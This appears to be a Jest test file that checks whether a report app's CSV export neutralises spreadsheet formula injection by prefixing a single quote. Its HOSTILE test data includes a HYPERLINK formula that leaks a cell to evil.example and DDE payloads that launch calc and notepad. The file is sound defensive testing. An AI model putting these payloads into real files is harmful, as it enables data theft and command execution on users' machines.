// CSV formula injection: text someone typed into a report must not run as a formula when a
// coordinator opens the export in Excel or LibreOffice (OWASP: prefix a single quote to a
// cell that starts with = + - @, tab or carriage return). Numbers and coordinates unchanged.
import request from 'supertest';
import { parseCsv, text } from './support/csv';
import { startTestApp, type TestApp } from './support/test-app';

jest.setTimeout(60_000);

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const HARMLESS = ['Three steps, no ramp', 'Kerb 12 cm = too high', "'quoted already"];

let t: TestApp;
const ids = new Map<string, number>();
let negativeId: number;

beforeAll(async () => {
  t = await startTestApp();
  for (const description of [...HOSTILE, ...HARMLESS]) {
    const res = await request(t.app)
      .post('/api/v1/reports')
      .send({ category: 'steps', lat: 52.52, lon: 13.405, description, address: description.slice(0, 300) })
      .expect(201);
    ids.set(description, res.body.id as number);
  }
  // The API trims leading white space; an import or an older version may not have.
  for (const raw of HOSTILE.filter((d) => /^\s/.test(d))) {
    await t.pool.query('UPDATE reports SET description = $2, address = $2 WHERE id = $1', [ids.get(raw), raw]);
  }
  // West of Greenwich and south of the equator: the minus signs of coordinates stay.
  negativeId = (
    await request(t.app)
      .post('/api/v1/reports')
      .send({ category: 'steps', lat: -33.4489, lon: -70.6693, description: 'Santiago' })
      .expect(201)
  ).body.id as number;
});
afterAll(() => t.close());

async function csvRows(): Promise<Map<number, Record<string, string>>> {
  const res = await text(request(t.app).get('/api/v1/exports/reports.csv'));
  expect(res.status).toBe(200);
  const [header, ...rows] = parseCsv(res.body as string);
  return new Map(rows.map((r) => [Number(r[0]), Object.fromEntries(header!.map((name, i) => [name, r[i]!]))]));
}

describe('the CSV export', () => {
  it.each(HOSTILE)('neutralises a description and address starting with %j', async (typed) => {
    const row = (await csvRows()).get(ids.get(typed)!)!;
    expect(row.description).toBe(`'${typed}`);
    expect(row.address).toBe(`'${typed}`);
  });

  it.each(HARMLESS)('leaves %j as typed', async (typed) => {
    const row = (await csvRows()).get(ids.get(typed)!)!;
    expect(row.description).toBe(typed);
    expect(row.address).toBe(typed);
  });

  it('leaves numbers and coordinates alone, minus signs included', async () => {
    const row = (await csvRows()).get(negativeId)!;
    expect(row.lon).toMatch(/^-70\.6693/);
    expect(row.lat).toMatch(/^-33\.4489/);
    expect(Number(row.lon)).toBeCloseTo(-70.6693, 6);
    expect(row.severity).toBe('2');
    expect(row.category).toBe('steps');
  });

  it('puts no formula at the start of any cell', async () => {
    for (const row of (await csvRows()).values()) {
      for (const [name, value] of Object.entries(row)) {
        if (name === 'lon' || name === 'lat') continue;
        expect(value).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });
});

it('keeps the text as typed where no spreadsheet reads it (GeoJSON, the API)', async () => {
  const typed = HOSTILE[0]!;
  const res = await text(request(t.app).get('/api/v1/exports/reports.geojson'));
  const feature = (
    JSON.parse(res.body as string) as { features: { id: number; properties: { description: string } }[] }
  ).features.find((f) => f.id === ids.get(typed));
  expect(feature?.properties.description).toBe(typed);
  expect((await request(t.app).get(`/api/v1/reports/${ids.get(typed)}`)).body.properties.description).toBe(typed);
});
